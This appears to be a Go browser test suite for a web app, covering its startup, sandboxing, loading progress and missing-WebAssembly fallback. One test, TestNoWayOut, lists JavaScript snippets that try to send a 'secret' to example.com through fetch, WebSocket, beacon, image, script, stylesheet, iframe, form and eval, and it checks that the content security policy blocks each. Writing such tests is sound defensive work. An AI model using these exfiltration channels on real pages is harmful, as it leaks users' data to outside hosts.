//go:build !js

package browsertest

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"memtide/web/fileserver"
)

const started = `performance.getEntriesByName("memtide:running").length > 0`

// TestQuietStart checks that the page starts without errors or warnings and sends requests only to its own host.
func TestQuietStart(t *testing.T) {
	t.Parallel()
	p := New(t)
	server := httptest.NewServer(fileserver.Handler(shared.dist))
	t.Cleanup(server.Close)
	p.URL = server.URL + "/"
	p.Navigate("")
	p.Wait(untilReady)
	Eval[bool](p, hands)
	curveBegun(p) // by now the charts are loaded and several workers run
	Eval[bool](p, `navigator.serviceWorker.ready.then(() => { window.kept = true }), true`)
	p.Wait(`window.kept`)
	p.Quiet()
}

// TestNoWayOut checks that the page cannot send a dropped file anywhere: it tries every way, and the content
// security policy refuses each. The host names would not resolve in any case, so the test waits for the violation
// that the browser reports instead of the failure.
func TestNoWayOut(t *testing.T) {
	t.Parallel()
	p := Open(t, "")
	p.Wait(started)
	Eval[bool](p, `window.refused = []; addEventListener("securitypolicyviolation", (e) => { if (e.disposition === "enforce") refused.push(e.effectiveDirective) }); true`)
	for _, c := range []struct{ name, directive, try string }{
		{"fetch", "connect-src", `fetch("https://example.com/?secret").catch(() => {})`},
		{"websocket", "connect-src", `try { new WebSocket("wss://example.com/") } catch {}`},
		{"beacon", "connect-src", `navigator.sendBeacon("https://example.com/", "secret")`},
		{"image", "img-src", `new Image().src = "https://example.com/?secret"`},
		{"script", "script-src",
			`document.head.append(Object.assign(document.createElement("script"), {src: "https://example.com/x.js"}))`},
		{"style", "style-src", `document.head.append(Object.assign(document.createElement("link"), {rel: "stylesheet", href: "https://example.com/x.css"}))`},
		{"frame", "frame-src", `document.body.append(Object.assign(document.createElement("iframe"), {src: "https://example.com/"}))`},
		{"form", "form-action", `{ const f = document.createElement("form"); f.action = "https://example.com/"; f.method = "post"; document.body.append(f); f.submit(); }`},
		{"eval", "script-src", `new Function("return 1")()`},
	} {
		t.Run(c.name, func(t *testing.T) {
			p.For(t)
			Eval[bool](p, `refused.length = 0, true`)
			// The script runs from a timer, because the policy does not apply to what a debugger evaluates.
			Eval[bool](p, fmt.Sprintf(`setTimeout(() => { %s }); true`, c.try))
			p.Wait(fmt.Sprintf(`refused.some((d) => d.startsWith(%q))`, c.directive))
		})
	}
}

// TestSandboxed checks that the page works in a frame that may only run scripts. Such a page has an opaque
// origin, so the browser refuses to start workers from an address, and storage throws.
func TestSandboxed(t *testing.T) {
	t.Parallel()
	p := Open(t, "?selftest&sandbox")
	p.Wait(`window.memtide && memtide.request`)
	if origin := Eval[string](p, `self.origin`); origin != "null" {
		t.Fatalf("the page has the origin %q; the test needs a sandboxed one, null", origin)
	}
	solveNow(p)
}

// TestLoadingBar checks that the page shows its progress while the engine loads over a slow line. The server
// sends the second part of the engine when the progress of the first has been seen.
func TestLoadingBar(t *testing.T) {
	t.Parallel()
	p := New(t)
	site, seen := fileserver.Handler(shared.dist), make(chan bool)
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if strings.HasPrefix(r.URL.Path, "/app.") {
			w = &halting{ResponseWriter: w, until: seen}
		}
		site.ServeHTTP(w, r)
	}))
	t.Cleanup(server.Close)
	all := sync.OnceFunc(func() { close(seen) })
	t.Cleanup(all)
	p.URL = server.URL + "/"
	p.Navigate("")
	p.Wait(`document.querySelector("#boot progress")?.value > 0`)
	if max, size := Eval[int](p, `document.querySelector("#boot progress").max`),
		Eval[int](p, `Number(document.querySelector("script[data-size]").dataset.size)`); max != size || size < 1<<20 {
		t.Errorf("the bar ends at %d; want the size of the engine, %d", max, size)
	}
	all()
	p.Wait(started)
	p.Wait(`document.querySelector("#boot").hidden`)
}

// halting sends the first megabyte, and the rest when until is closed.
type halting struct {
	http.ResponseWriter
	until <-chan bool
	sent  int
}

func (w *halting) Write(b []byte) (int, error) {
	if w.sent > 1<<20 {
		if f, ok := w.ResponseWriter.(http.Flusher); ok {
			f.Flush()
		}
		<-w.until
	}
	n, err := w.ResponseWriter.Write(b)
	w.sent += n
	return n, err
}

// TestNoWebAssembly checks that without WebAssembly the prepared picture stays and the page says why.
func TestNoWebAssembly(t *testing.T) {
	t.Parallel()
	p := New(t)
	p.Before(`delete globalThis.WebAssembly`)
	p.Navigate("")
	p.Wait(`document.querySelector('#boot[role="alert"]') && !document.querySelector("#boot").hidden`)
	if text := p.Text("#boot"); !strings.Contains(text, "this browser has no WebAssembly") {
		t.Errorf("got %q, want the reason", text)
	}
	if n := Eval[int](p, `document.querySelector("#app").textContent.trim().length`); n == 0 {
		t.Error("#app is empty; want the prepared picture")
	}
}
